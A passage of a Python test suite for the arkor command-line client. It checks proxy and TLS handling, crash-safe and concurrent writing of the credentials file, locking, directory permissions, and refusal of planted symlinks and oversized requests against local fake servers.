                self.assertEqual(
                    self.whoami(HTTP_PROXY=value),
                    (1, "", "HTTP_PROXY is not a proxy URL (http://host:port); fix or unset it.\n"),
                )
        self.assertEqual(self.proxy.seen, [])
        self.assertEqual(len(self.cloud.requests), 0)

    def test_a_proxy_url_is_read_as_urllib_reads_it(self) -> None:
        # The part up to the first / names the proxy: a path after it is ignored...
        self.assertEqual(self.whoami(HTTP_PROXY=f"{self.proxy.url}/path")[0], 0)
        self.assertEqual(self.proxy.seen, [("GET", f"{self.cloud.url}/v1/me")])
        self.proxy.authorizations.clear()
        # ...and a # in a password is the password's.
        host = self.proxy.url.removeprefix("http://")
        basic = "Basic " + base64.b64encode(b"alice:1234#s3cret").decode("ascii")
        self.assertEqual(self.whoami(HTTP_PROXY=f"http://alice:1234#s3cret@{host}/")[0], 0)
        self.assertEqual((self.proxy.seen, self.proxy.authorizations), ([("GET", f"{self.cloud.url}/v1/me")], [basic]))
        # When it fails, the proxy is named without its password.
        dead = self.dead.removeprefix("http://")
        code, out, err = self.whoami(HTTP_PROXY=f"alice:1234#s3cret@{dead}")
        self.assertEqual((code, out), (1, ""))
        self.assertEqual(
            err,
            f"Could not reach {self.cloud.url}/v1/me: Connection refused (through the proxy http://***@{dead}"
            " from HTTP_PROXY; set NO_PROXY=127.0.0.1 to go direct)\n",
        )
        self.assertNotIn("s3cret", err)

    def test_no_proxy_matches_host_and_port_and_an_empty_lower_case_name_unsets(self) -> None:
        ok = (0, '{\n  "id": "u1"\n}\n', "")
        for env, seen in (
            ({"HTTP_PROXY": self.proxy.url, "NO_PROXY": f"127.0.0.1:{self.cloud.port}"}, []),
            ({"HTTP_PROXY": self.proxy.url, "NO_PROXY": "127.0.0.1:1"}, [("GET", f"{self.cloud.url}/v1/me")]),
            ({"HTTP_PROXY": self.dead, "http_proxy": ""}, []),  # as urllib: the lower-case one wins, empty or not
        ):
            with self.subTest(env=env):
                self.assertEqual(self.whoami(**env), ok)
                self.assertEqual(self.proxy.seen, seen)

    def test_the_environment_given_not_the_process_one(self) -> None:
        # main(env=...) gives every request that environment, so only _http
        # itself can tell it from the process's: urllib's proxy functions,
        # left to themselves, read os.environ. A process whose own proxy is
        # dead runs requests on environments of its own.
        me = f"{self.cloud.url}/v1/me"
        cases = [
            ({"HTTP_PROXY": self.proxy.url}, [("GET", me)]),
            ({"HTTP_PROXY": self.proxy.url, "NO_PROXY": "127.0.0.1"}, []),
            ({}, []),
        ]
        script = "\n".join(
            ["import json, arkor_cli", "statuses = []"]
            + [
                f"statuses.append(arkor_cli._http('GET', {me!r}, headers={{}}, body=None, seconds=5, env={env!r}).status)"
                for env, _ in cases
            ]
            + ["print(json.dumps(statuses))"]
        )
        code, out, err = self.run_python(script, HTTP_PROXY=self.dead)
        self.assertEqual((code, err), (0, ""))
        self.assertEqual(json.loads(out), [401, 401, 401])  # the cloud-api's answer to no token, each time
        self.assertEqual(self.proxy.seen, cases[0][1])  # only the first went through the proxy


class SystemTrustTest(OAuthCase):
    """HTTPS is verified against exactly what ssl.create_default_context()
    trusts: the system's store, or what SSL_CERT_FILE and SSL_CERT_DIR name.
    One handshake per request, never a second try with another trust."""

    CA_DIR = os.path.join(FIXTURES, "ca-dir")  # ca.pem under its hash name, as Debian's /etc/ssl/certs

    def lacking(self) -> str:
        """A hashed directory without the test CA (another certificate under a hash name)."""
        folder = tempfile.mkdtemp()
        self.addCleanup(shutil.rmtree, folder, True)
        shutil.copy(os.path.join(FIXTURES, "server.pem"), os.path.join(folder, "00000000.0"))
        return folder

    def test_each_source_of_trust(self) -> None:
        mac = " With a python.org build of Python, run its 'Install Certificates' command once."
        untrusted = (
            f"Could not renew the access token (Could not reach https://{self.auth0.domain}/oauth/token:"
            " TLS certificate not trusted (unable to get local issuer certificate). If your network uses its own"
            " certificate authority, point SSL_CERT_FILE at its bundle."
            + (mac if sys.platform == "darwin" else "")
            + "); trying the stored one.\n"
        )
        lacking = self.lacking()
        cases: list[tuple[dict[str, str | None], str]] = [
            ({"SSL_CERT_FILE": TEST_CA}, ""),
            ({"SSL_CERT_FILE": None, "SSL_CERT_DIR": self.CA_DIR}, ""),
            ({"SSL_CERT_FILE": TEST_CA, "SSL_CERT_DIR": lacking}, ""),  # either may vouch
            ({"SSL_CERT_FILE": None, "SSL_CERT_DIR": lacking}, untrusted),
            ({"SSL_CERT_FILE": None}, untrusted),  # the system's store alone
        ]
        if not POSIX:  # Windows trusts its certificate stores, not a directory
            cases = [case for case in cases if "SSL_CERT_DIR" not in case[0]]
        for env, warning in cases:
            with self.subTest(env=env):
                self.sign_in_oauth(expires_in=30)  # a renewal, POST https://<auth0>/oauth/token, comes first
                renewals = len(self.auth0.seen("POST", "/oauth/token"))
                handshakes = self.auth0.handshakes
                code, out, err = self.run_main("whoami", **env)
                self.assertEqual((code, err), (0, warning))
                self.assertTrue(out.startswith('{\n  "id": "auth0|ada"'), out)
                self.assertEqual(self.auth0.handshakes - handshakes, 1)
                self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")) - renewals, 0 if warning else 1)


class ResilienceTest(OAuthCase):
    def assert_whole_anon_file(self) -> dict[str, Any]:
        data = self.read_creds()  # valid JSON, or this raises
        self.assertEqual(data["mode"], "anon")
        self.assertIn(data["token"], self.cloud.tokens)
        return data

    def test_logins_at_once(self) -> None:
        # Three processes replace the file at once while a reader watches:
        # the reader only ever sees no file or a whole one, and one whole
        # file is left, with no temp file beside it.
        import threading

        torn: list[str] = []
        stop = threading.Event()

        def watch() -> None:
            while not stop.is_set():
                try:
                    with open(self.creds, encoding="utf-8") as f:
                        text = f.read()
                except FileNotFoundError:
                    continue
                try:
                    json.loads(text)
                except ValueError:
                    torn.append(text)

        watcher = threading.Thread(target=watch)
        watcher.start()
        try:
            procs = [self.spawn("login", "--anonymous") for _ in range(3)]
            for proc in procs:
                out, err = proc.communicate(timeout=60)
                self._record(out, err)
                self.assertEqual(proc.returncode, 0, err)
                # Without a terminal, replacing the identity another one stored is said, not asked.
                self.assertRegex(
                    err, r"\A(Replaced the anonymous identity anon-000[1-3]; it cannot be restored\.\n)?\Z"
                )
        finally:
            stop.set()
            watcher.join()
        self.assertEqual(torn, [])
        self.assertEqual(len(self.cloud.tokens), 3)
        self.assert_whole_anon_file()
        self.assertEqual(self.leftovers(), [])
        code, out, _ = self.run_main("whoami")
        self.assertEqual(code, 0)

    @unittest.skipUnless(POSIX, "SIGKILL")
    def test_sigkill_never_tears_the_file(self) -> None:
        # SIGKILL at the two points that matter: with the request in flight
        # (nothing is written yet), and with the new file whole on disk but
        # not yet renamed (the old one must still be there, whole, and the
        # orphan private). No cleanup code runs under SIGKILL.
        self.sign_in_anon()
        before = self.creds_bytes()
        self.cloud.script("POST", "/v1/auth/anonymous", lambda seen: Answer(201, self.cloud.mint_anonymous(), delay=60))
        proc = self.spawn("login", "--anonymous")
        self.wait_until(lambda: self.cloud.seen("POST", "/v1/auth/anonymous"))
        proc.kill()
        self._record(*proc.communicate(timeout=20))
        self.assertEqual(self.creds_bytes(), before)
        self.assertEqual(self.leftovers(), [])

        self.cloud.script("POST", "/v1/auth/anonymous", lambda seen: Answer(201, self.cloud.mint_anonymous()))
        # os.replace held: the process stops, as a kill would find it, between the fsync and the rename.
        held = (
            "import os, sys, time\n"
            "sys.path.insert(0, sys.argv[1])\n"
            "import arkor_cli\n"
            "def hold(src, dst):\n"
            "    print(src, flush=True)\n"
            "    time.sleep(60)\n"
            "os.replace = hold\n"
            "sys.exit(arkor_cli.main(['login', '--anonymous']))\n"
        )
        proc = subprocess.Popen(
            [sys.executable, "-c", held, HERE],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env=self.env(),
        )
        self.addCleanup(lambda: proc.poll() is None and proc.kill())
        assert proc.stdout is not None
        ready, _, _ = select.select([proc.stdout], [], [], 20)
        self.assertTrue(ready, "the login never reached the rename")
        temp = proc.stdout.readline().strip()
        proc.kill()
        self._record(*proc.communicate(timeout=20))
        self.assertEqual(self.creds_bytes(), before)
        self.assertEqual(self.leftovers(), [os.path.basename(temp)])
        self.assertEqual(stat.S_IMODE(os.stat(temp).st_mode), 0o600)
        with open(temp, encoding="utf-8") as f:
            orphan = json.load(f)  # whole: written and flushed before the rename
        self.assertEqual(orphan["mode"], "anon")
        self.assertIn(orphan["token"], self.cloud.tokens)
        # The orphan stands in no one's way: still signed in as before, and the next login works.
        self.cloud.add_token("anon-token-stored", user={"id": "still-me"}, orgs=[])
        self.assertEqual(self.run_main("whoami"), (0, '{\n  "id": "still-me"\n}\n', ""))
        code, _, err = self.run_main("login", "--anonymous")
        self.assertEqual((code, err), (0, "Replaced the anonymous identity anon-stored; it cannot be restored.\n"))
        self.assert_whole_anon_file()

    @unittest.skipUnless(can_mount_tmpfs(), "needs root and mount(8) for a tiny or read-only filesystem")
    def test_full_and_read_only_filesystems(self) -> None:
        mount = tempfile.mkdtemp(prefix="arkor-fs-")
        self.addCleanup(os.rmdir, mount)
        subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", mount], check=True)
        self.addCleanup(subprocess.run, ["umount", mount], check=False)
        home = os.path.join(mount, "home")
        os.makedirs(os.path.join(home, ".arkor"))
        creds = os.path.join(home, ".arkor", "credentials.json")
        self.cloud.add_token("anon-token-stored")
        old = {
            "mode": "anon",
            "token": "anon-token-stored",
            "anonymousId": "anon-stored",
            "arkorCloudApiUrl": self.cloud.url,
            "orgSlug": "stored-org",
        }
        with open(creds, "w") as f:
            json.dump(old, f)
        # Fill the disk to the last byte.
        fd = os.open(os.path.join(mount, "filler"), os.O_WRONLY | os.O_CREAT)
        try:
            while os.write(fd, b"\0" * 512):
                pass
        except OSError:
            pass  # full
        finally:
            os.close(fd)
        code, out, err = self.run_main("login", "--anonymous", HOME=home, USERPROFILE=home)
        self.assertEqual((code, out), (1, ""))
        self.assertEqual(
            err,
            f"Could not write {creds}: No space left on device.\n",
        )
        with open(creds) as f:
            self.assertEqual(json.load(f), old)
        self.assertEqual(
            sorted(set(os.listdir(os.path.dirname(creds))) - {"credentials.json.lock"}), ["credentials.json"]
        )
        # Read-only: the login says so; whoami still reads.
        os.remove(os.path.join(mount, "filler"))
        subprocess.run(["mount", "-o", "remount,ro", mount], check=True)
        sent = len(self.cloud.requests)
        code, out, err = self.run_main("login", "--anonymous", HOME=home, USERPROFILE=home)
        self.assertEqual((code, out), (1, ""))
        # Refused before anything is sent, at the lock, for the true reason.
        self.assertEqual(err, f"Could not write {creds}.lock: Read-only file system.\n")
        self.assertEqual(len(self.cloud.requests), sent)
        code, out, _ = self.run_main("whoami", HOME=home, USERPROFILE=home)
        self.assertEqual(code, 0)
        self.assertTrue(out.startswith("{"), out)

    @unittest.skipUnless(POSIX, "symlinks need privileges on Windows")
    def test_a_link_planted_at_the_temp_name_is_never_followed(self) -> None:
        self.sign_in_anon()
        before = self.creds_bytes()
        victim = os.path.join(self.home, "victim.txt")
        with open(victim, "w") as f:
            f.write("precious")
        # Make the temp name predictable, and plant a link there first.
        planted = os.path.join(self.arkor_dir, f".credentials.json.{os.getpid()}.{'00' * 6}.tmp")
        os.symlink(victim, planted)
        with mock.patch.object(os, "urandom", return_value=b"\0" * 6):
            code, out, err = self.run_main("login", "--anonymous")
        self.assertEqual((code, out), (1, ""))
        self.assertEqual(
            err,
            f"Could not write {self.creds}: File exists.\n",
        )
        with open(victim) as f:
            self.assertEqual(f.read(), "precious")
        self.assertEqual(self.creds_bytes(), before)
        self.assertTrue(os.path.islink(planted))  # not ours to remove

    def test_tls_failures(self) -> None:
        self.sign_in_anon()
        for cert, reason in (
            (
                "expired",
                (
                    "TLS certificate not trusted (certificate has expired)."
                    " Check this machine's clock, then the server's certificate."
                ),
            ),
            (
                "wrong-host",
                (
                    "TLS certificate not trusted (IP address mismatch, certificate is not valid for '127.0.0.1')."
                    " The certificate is for another host: check the URL."
                ),
            ),
        ):
            with self.subTest(cert=cert), FakeAuth0(cert=cert) as server:
                code, out, err = self.run_main("whoami", ARKOR_CLOUD_API_URL=server.url)
                self.assertEqual((code, out, err), (1, "", f"Could not reach {server.url}/v1/me: {reason}\n"))
                self.assertEqual(server.requests, [])  # nothing was sent over it

    def test_listener_under_load(self) -> None:
        # Idle connections (as browsers pre-open), an oversized header and a
        # flood of junk do not stop the real callback from getting through.
        # Five idle ones: the listen backlog's worth, so that they connect at
        # once; each would hold a one-at-a-time listener for its 10 s.
        proc, url, _ = self.start_login()
        port = self.ports[0]
        idle = []
        for _ in range(5):
            s = socket.create_connection(("127.0.0.1", port), timeout=5)
            idle.append(s)
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
                s.sendall(b"GET /callback HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nX-Big: %s\r\n\r\n" % (port, b"a" * 70000))
                answer = s.recv(100)
            self.assertTrue(answer.startswith((b"HTTP/1.0 431", b"HTTP/1.0 400")), answer)
            # A client that sends junk and resets the connection: the server
            # must not print socketserver's traceback into the user's terminal.

            for _ in range(5):
                with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
                    s.sendall(b"GET /callback HTTP/1.1\r\nX-Big: " + b"a" * 70000)
                    reset_on_close(s)
            for _ in range(20):
                status, _, _ = self.callback(port, "/nothing-here")
                self.assertEqual(status, 404)
            self.assertIsNone(proc.poll())
            status, _, _ = browse(url)
            self.assertEqual(status, 200)
            code, out, err = self.finish(proc)
            # finish() may miss the lines start_login() read ahead with the Browser: line.
            self.assertEqual((code, err), (0, ""))
            self.assertTrue(out.endswith("Signed in\n"), out)
        finally:
            for s in idle:
                s.close()


# ---------------------------------------------------------------------------
# The cloud-api: the version gate and the upgrade command
# ---------------------------------------------------------------------------


def node_writes(case: Case, data: dict[str, Any]) -> None:
    """What the Node CLI does: write credentials.json in place, without the
    lock (JSON.stringify(data, null, 2), no final newline)."""
    with open(case.creds, "w", encoding="utf-8") as f:
        f.write(json.dumps(data, indent=2))


def anon_file(case: Case, name: str) -> dict[str, Any]:
    """An anonymous identity as another CLI stores it, its token valid."""
    token = f"anon-token-{name}"
    case.cloud.add_token(token)
    case.secrets.append(token)
    return {
        "mode": "anon",
        "token": token,
        "anonymousId": name,
        "orgSlug": "other-org",
        "arkorCloudApiUrl": case.cloud.url,
    }


class NothingLostTest(OAuthCase):
    """SPEC 3.1: what a server has done reaches the file, and no write
    destroys credentials it did not mean to replace. The Node CLI writes the
    file without the lock: a stand-in for it writes in the middle of each
    command, from the fake server, while the command waits for its answer."""

    def while_answering(self, service: Any, method: str, path: str, then: Callable[[], None]) -> None:
        """Answer ``method path`` as the service would, after ``then()``:
        what another writer does while the command waits for that answer."""

        def respond(seen: Any) -> Answer:
            then()
            return service._default(seen)

        service.script(method, path, respond)

    # -- every write compares first ---------------------------------------------

    def test_a_renewal_leaves_what_another_writer_stored_meanwhile(self) -> None:
        self.auth0.rotate = True
        self.sign_in_oauth(expires_in=-100)
        other = anon_file(self, "anon-node")
        self.while_answering(self.auth0, "POST", "/oauth/token", lambda: node_writes(self, other))
        code, out, err = self.run_main("whoami")
        self.assertEqual(code, 0)
        self.assertTrue(out.startswith('{\n  "id": "auth0|ada"'), out)  # the renewed token served this command
        self.assertEqual(
            err,
            f"{self.creds} changed while the token was being renewed; the renewed token serves this command only.\n",
        )
        self.assertEqual(self.read_creds(), other)  # the identity the other writer stored is there

    def test_a_login_never_overwrites_an_identity_stored_meanwhile_when_told_not_to(self) -> None:
        # `arkor login` alone, no terminal, no file at first: the login never
        # replaces, also what appeared while it signed in.
        other = anon_file(self, "anon-node")
        self.cloud.config = {}
        self.while_answering(self.cloud, "POST", "/v1/auth/anonymous", lambda: node_writes(self, other))
        code, out, err = self.run_main("login")
        self.assertEqual(
            (code, err),
            (0, ""),
        )
        self.assertEqual(
            out,
            "OAuth is not configured. Continuing with an anonymous session.\n"
            "Already signed in anonymously as anon-node. Run `arkor login --anonymous` or"
            " `arkor login --oauth` to replace it.\n",
        )
        self.assertEqual(self.read_creds(), other)

    def test_a_login_told_to_replace_names_what_it_replaced_meanwhile(self) -> None:
        self.sign_in_anon()
        other = anon_file(self, "anon-node")
        self.while_answering(self.cloud, "POST", "/v1/auth/anonymous", lambda: node_writes(self, other))
        code, out, err = self.run_main("login", "--anonymous")
        self.assertEqual(code, 0)
        stored = self.read_creds()
        self.assertEqual(out, anon_output(stored["anonymousId"], self.creds, stored["orgSlug"]))
        # Named: the one replaced is the one stored meanwhile, not the one asked about.
        self.assertEqual(err, "Replaced the anonymous identity anon-node; it cannot be restored.\n")

    def test_on_a_terminal_the_login_asks_again_about_what_is_there_now(self) -> None:
        self.sign_in_anon()
        other = anon_file(self, "anon-node")
        self.while_answering(self.cloud, "POST", "/v1/auth/anonymous", lambda: node_writes(self, other))
        code, out, err = self.run_main("login", "--anonymous", stdin="y\nn\n", tty=True, NO_COLOR="1")
        self.assertEqual((code, err), (0, ""))
        self.assertEqual(
            out,
            "Replace the anonymous identity anon-stored? It cannot be restored. [y/N] "
            f"While signing in, {self.creds} came to hold the anonymous identity anon-node;"
            " it cannot be restored. Replace it? [y/N] Aborted.\n",
        )
        self.assertEqual(self.read_creds(), other)  # B is not the one destroyed
        # Asked again and answered yes: replaced.
        code, out, _ = self.run_main("login", "--anonymous", stdin="y\ny\n", tty=True, NO_COLOR="1")
        self.assertEqual(code, 0)
        self.assertNotEqual(self.read_creds()["anonymousId"], "anon-node")

    def test_an_oauth_login_names_what_it_replaced_meanwhile(self) -> None:
        other = anon_file(self, "anon-node")
        self.while_answering(self.auth0, "POST", "/oauth/token", lambda: node_writes(self, other))
        code, out, err, _ = _login_run(self, "--oauth", "--no-browser", browser=browse)
        self.assertEqual(code, 0, err)
        self.assertTrue(out.endswith("Signed in\n"), out)
        self.assertEqual(err, "Replaced the anonymous identity anon-node; it cannot be restored.\n")
        self.assertEqual(self.read_creds()["mode"], "oauth")

    def test_a_renewal_never_sends_another_cloud_apis_token_stored_meanwhile(self) -> None:
        # The Node CLI signs in to another deployment while whoami's token is
        # refused: that identity's token is never sent to this cloud-api.
        elsewhere = FakeCloudApi().start()
        self.addCleanup(elsewhere.stop)
        self.sign_in_oauth()
        other = dict(anon_file(self, "anon-elsewhere"), arkorCloudApiUrl=elsewhere.url)
        elsewhere.add_token(other["token"])

        def refused(seen: Any) -> Answer:
            node_writes(self, other)
            return Answer(401, {"error": "unauthorized"})

        self.cloud.script("GET", "/v1/me", refused)
        code, out, _ = self.run_main("whoami", ARKOR_CLOUD_API_URL=None)
        self.assertEqual((code, out), (0, "Failed to fetch /v1/me (401). Token may be expired.\n"))
        sent = [r.headers.get("authorization") for r in self.cloud.seen("GET", "/v1/me")]
        self.assertNotIn(f"Bearer {other['token']}", sent)
        self.assertEqual(self.read_creds(), other)

    def test_a_renewal_that_finds_the_sign_in_gone_says_so(self) -> None:
        # The Node CLI signs out while whoami's token is refused: the renewal
        # finds nothing to renew, spends nothing, writes nothing, and says why.
        self.sign_in_oauth()

        def refused(seen: Any) -> Answer:
            os.remove(self.creds)
            return Answer(401, {"error": "unauthorized"})

        self.cloud.script("GET", "/v1/me", refused)
        code, out, err = self.run_main("whoami")
        self.assertEqual((code, out), (0, "Failed to fetch /v1/me (401). Token may be expired.\n"))
        self.assertEqual(
            err,
            f"Could not renew the access token ({self.creds} no longer holds this sign-in); trying the stored one.\n",
        )
        self.assertFalse(os.path.exists(self.creds))
        self.assertEqual(self.auth0.seen("POST"), [])

    def test_logout_keeps_what_was_stored_while_it_revoked(self) -> None:
        stored = self.sign_in_oauth()
        other = anon_file(self, "anon-node")
        self.while_answering(self.auth0, "POST", "/oauth/revoke", lambda: node_writes(self, other))
        code, out, err = self.run_main("logout", "-y")
        self.assertEqual((code, out), (1, ""))
        self.assertEqual(
            err,
            f"{self.creds} changed while the refresh token was being revoked;"
            " the credentials now in it were not deleted.\n",
        )
        self.assertEqual(self.read_creds(), other)
        self.assertEqual([r["token"] for r in self.auth0.revoked], [stored["refreshToken"]])

    def test_a_renewal_is_no_reason_to_hide_lost_output(self) -> None:
        # A renewal stored on the way is not what `whoami --json > me.json` or
        # `$(arkor token)` asked for: their output lost is a failure.
        class Full(io.StringIO):
            def write(self, text: str) -> int:
                raise OSError(28, "No space left on device")

        for argv in (["whoami", "--json"], ["token"]):
            with self.subTest(argv=argv):
                self.auth0.rotate = True
                self.sign_in_oauth(expires_in=-100)
                code, _, _ = self.run_main(*argv, stdout=Full())
                self.assertEqual(code, 1)
                self.assertEqual(self.read_creds()["refreshToken"], self.auth0.newest_refresh_token())

    # -- a bare login where nobody can be asked (SPEC 5.0) ----------------------

    def test_a_bare_login_without_a_terminal_never_replaces(self) -> None:
        cases = {
            "anon": (lambda: self.sign_in_anon(), "anonymously as anon-stored"),
            "oauth": (lambda: self.sign_in_oauth(), "with OAuth"),
        }
        for mode, (sign_in, how) in cases.items():
            for argv in (["login"], ["login", "--no-browser"]):
                with self.subTest(mode=mode, argv=argv):
                    sign_in()
                    before = self.creds_bytes()
                    self.cloud.requests.clear()
                    code, out, err = self.run_main(*argv)
                    said = f"Already signed in {how}. Run `arkor login --anonymous` or `arkor login --oauth` to replace it.\n"
                    self.assertEqual((code, out, err), (0, said, ""))
                    self.assertEqual(self.creds_bytes(), before)
                    self.assertEqual((self.cloud.requests, self.auth0.seen("POST")), ([], []))
        # In CI on a terminal, too.
        code, out, _ = self.run_main("login", tty=True, CI="true", NO_COLOR="1")
        self.assertEqual((code, out.split(".")[0]), (0, "Already signed in with OAuth"))

    def test_a_bare_login_names_a_broken_file_and_sends_nothing(self) -> None:
        self.write_creds(b"{broken")
        code, out, err = self.run_main("login")
        self.assertEqual((code, out), (1, ""))
        self.assertTrue(err.startswith(f"{self.creds} does not hold valid arkor credentials (not JSON"), err)
        self.assertEqual(self.cloud.requests, [])
        self.assertEqual(self.creds_bytes(), b"{broken")

    # -- CI never asks, also on a terminal (SPEC 1) -------------------------------

    @unittest.skipUnless(POSIX, "needs a pty")
    def test_ci_on_a_terminal_never_asks(self) -> None:
        self.sign_in_anon()
        code, shown, err = self.run_tty(["login", "--anonymous"], [], CI="1", NO_COLOR="1")
        self.assertEqual(code, 0)
        self.assertNotIn("[y/N]", shown)
        self.assertEqual(err, "Replaced the anonymous identity anon-stored; it cannot be restored.\n")
        before = self.creds_bytes()
        code, shown, err = self.run_tty(["logout"], [], CI="1", NO_COLOR="1")
        self.assertEqual((code, shown), (0, "Aborted.\n"))
        self.assertEqual(
            err, "Nobody can be asked here (no terminal, or CI is set); pass --yes to delete without asking.\n"
        )
        self.assertEqual(self.creds_bytes(), before)
        self.cloud.config = self.auth0.cli_config(self.ports)
        os.remove(self.creds)
        code, shown, _ = self.run_tty(["login"], [], CI="1", NO_COLOR="1")  # no picker: Anonymous
        self.assertEqual(code, 0)
        self.assertNotIn("How would you like to sign in?", shown)
        self.assertEqual(self.read_creds()["mode"], "anon")

    # -- the lock, waited for briefly and openly --------------------------------

    @unittest.skipUnless(POSIX, "fcntl")
    def test_a_held_lock_is_waited_for_one_request_and_said(self) -> None:
        import fcntl

        stored = self.sign_in_oauth(expires_in=-100)
        waiting = f"Waiting for another arkor process, which holds {self.creds}.lock\u2026\n"
        given_up = f"Another arkor process holds {self.creds}.lock; try again in a moment."
        with open(self.creds + ".lock", "a") as held:
            fcntl.flock(held.fileno(), fcntl.LOCK_EX)
            # ARKOR_HTTP_TIMEOUT=0.5: a wait of 1 s, not 40, said after a second.
            # The three wait at once, each in a process of its own.
            procs = {
                name: self.spawn(*argv, ARKOR_HTTP_TIMEOUT="0.5")
                for name, argv in (
                    ("whoami", ["whoami"]),
                    ("login", ["login", "--anonymous"]),
                    ("logout", ["logout", "-y"]),
                )
            }
            done = {name: proc.communicate(timeout=30) for name, proc in procs.items()}
        for name, (out, err) in done.items():
            self._record(out, err)
        out, err = done["whoami"]
        self.assertEqual(procs["whoami"].returncode, 0)
        self.assertTrue(out.startswith('{\n  "id": "auth0|ada"'), out)  # the stored token, no refresh
        self.assertEqual(err, waiting + f"Could not renew the access token ({given_up}); trying the stored one.\n")
        for name in ("login", "logout"):  # they fail before anything is sent
            self.assertEqual((procs[name].returncode, *done[name]), (1, "", waiting + given_up + "\n"), name)
        self.assertEqual(self.read_creds(), stored)
        self.assertEqual((self.cloud.seen("POST"), self.auth0.seen("POST")), ([], []))

    # -- the directory and the size of what is written ---------------------------

    @unittest.skipUnless(POSIX, "modes")
    def test_a_loose_directory_is_tightened(self) -> None:
        os.makedirs(self.arkor_dir)
        os.chmod(self.arkor_dir, 0o777)
        code, _, err = self.run_main("login", "--anonymous")
        self.assertEqual(code, 0)
        self.assertEqual(err, f"{self.arkor_dir} was writable by others (mode 777); it is now 700.\n")
        self.assertEqual(stat.S_IMODE(os.stat(self.arkor_dir).st_mode), 0o700)

    @unittest.skipUnless(POSIX, "fcntl")
    def test_a_folder_tightened_is_said_also_when_the_lock_is_not_had(self) -> None:
        import fcntl

        os.makedirs(self.arkor_dir)
        os.chmod(self.arkor_dir, 0o777)
        with open(self.creds + ".lock", "a") as held:
            fcntl.flock(held.fileno(), fcntl.LOCK_EX)
            code, out, err = self.run_main("login", "--anonymous", ARKOR_HTTP_TIMEOUT="0.2")
        self.assertEqual((code, out), (1, ""))
        self.assertEqual(
            err,
            f"Another arkor process holds {self.creds}.lock; try again in a moment.\n"
            f"{self.arkor_dir} was writable by others (mode 777); it is now 700.\n",
        )
        self.assertEqual(stat.S_IMODE(os.stat(self.arkor_dir).st_mode), 0o700)
        self.assertEqual(self.cloud.requests, [])

    @unittest.skipUnless(POSIX, "modes")
    def test_a_folder_that_cannot_be_made_private_is_a_warning(self) -> None:
        # Some mounts refuse chmod, others ignore it (a Windows drive under
        # WSL, vfat): as for the file, a warning, not a failed login.
        real_chmod = os.chmod

        def refuse(path: Any, mode: int, *a: Any, **k: Any) -> None:
            if str(path) == self.arkor_dir:
                raise PermissionError(1, "Operation not permitted")
            real_chmod(path, mode, *a, **k)

        def ignore(path: Any, mode: int, *a: Any, **k: Any) -> None:
            if str(path) != self.arkor_dir:
                real_chmod(path, mode, *a, **k)

        for chmod, reason in (
            (refuse, "Operation not permitted"),
            (ignore, "the filesystem keeps it writable by others"),
        ):
            with self.subTest(reason=reason):
                shutil.rmtree(self.arkor_dir, ignore_errors=True)  # a first sign-in each time
                os.makedirs(self.arkor_dir)
                real_chmod(self.arkor_dir, 0o777)
                with mock.patch.object(os, "chmod", chmod):
                    code, out, err = self.run_main("login", "--anonymous")
                self.assertEqual(code, 0)
                self.assertTrue(out.startswith("Anonymous id: "), out)
                self.assertEqual(err, f"Could not restrict the permissions of {self.arkor_dir}: {reason}.\n")

    @unittest.skipUnless(sys.platform.startswith("linux") and POSIX, "counts descriptors in /proc")
    def test_ctrl_c_while_waiting_for_the_lock_leaves_no_descriptor(self) -> None:
        import fcntl

        self.sign_in_anon()
        script = (
            "import json, os, signal, arkor_cli\n"
            "def stop(*_):\n"
            "    raise KeyboardInterrupt\n"
            "signal.signal(signal.SIGALRM, stop)\n"
            "signal.setitimer(signal.ITIMER_REAL, 0.3)  # Ctrl-C, well inside the wait\n"
            "try:\n"
            "    arkor_cli.logout()\n"
            "except KeyboardInterrupt:\n"
            "    pass\n"
            "held = [f for f in os.listdir('/proc/self/fd') if os.path.realpath(f'/proc/self/fd/{f}').endswith('.lock')]\n"
            "print(json.dumps(held))\n"
        )
        with open(self.creds + ".lock", "a") as held:
            fcntl.flock(held.fileno(), fcntl.LOCK_EX)
            code, out, err = self.run_python(script, ARKOR_HTTP_TIMEOUT="30")
        self.assertEqual((code, err, json.loads(out)), (0, "", []))
        self.assertTrue(os.path.exists(self.creds))

    @unittest.skipUnless(POSIX and os.geteuid() == 0, "gives the folder to another user: root only")
    def test_a_loose_directory_of_another_user_is_refused(self) -> None:
        os.makedirs(self.arkor_dir)
        os.chmod(self.arkor_dir, 0o777)
        os.chown(self.arkor_dir, 65534, 65534)
        code, out, err = self.run_main("login", "--anonymous")
        self.assertEqual((code, out), (1, ""))
        self.assertEqual(
            err,
            f"{self.arkor_dir} is writable by others and belongs to another user (uid 65534);"
            " arkor stores nothing there.\n",
        )
        self.assertEqual((os.listdir(self.arkor_dir), self.cloud.requests), ([], []))

    def test_a_renewal_never_writes_a_file_the_next_read_refuses(self) -> None:
        # 400 kB written compactly by another tool would be 1.4 MB indented.
        self.auth0.rotate = True
        data = self.sign_in_oauth(expires_in=-100)
        data["studio"] = {"rows": [[i, i + 1, i + 2, i + 3] for i in range(25000)]}
        self.write_creds(json.dumps(data, separators=(",", ":")).encode())
        self.assertLess(len(self.creds_bytes()), 1024 * 1024)
        self.assertGreater(len(json.dumps(data, indent=2)), 1024 * 1024)
        code, _, err = self.run_main("whoami")
        self.assertEqual((code, err), (0, ""))
        after = self.read_creds()
        self.assertEqual(after["refreshToken"], self.auth0.newest_refresh_token())
        self.assertEqual(after["studio"], data["studio"])
        self.assertLessEqual(len(self.creds_bytes()), 1024 * 1024)
        code, _, err = self.run_main("whoami")  # the next read takes it
        self.assertEqual((code, err), (0, ""))


class UpgradeRequiredTest(Case):
    """426 from any cloud-api call stops the command with the line its body
    calls for; COPIED_FIX is the fix for this copied arkor_cli.py."""

    def test_each_body(self) -> None:
        header = (
            "The cloud API could not read this client's X-Arkor-Client header ({});"
            f" a proxy on the way may be changing it. {COPIED_FIX}"
        )
        bare = f"Arkor SDK is no longer supported by the cloud API. {COPIED_FIX}"
        gate = {
            "error": "sdk_version_unsupported",
            "currentVersion": "0.2.0",
            "supportedRange": ">=0.3.0",
            "upgrade": "npm i -g arkor",
        }
        for body, message in (
            ({"error": "sdk_version_unsupported", "reason": "missing"}, header.format("missing")),
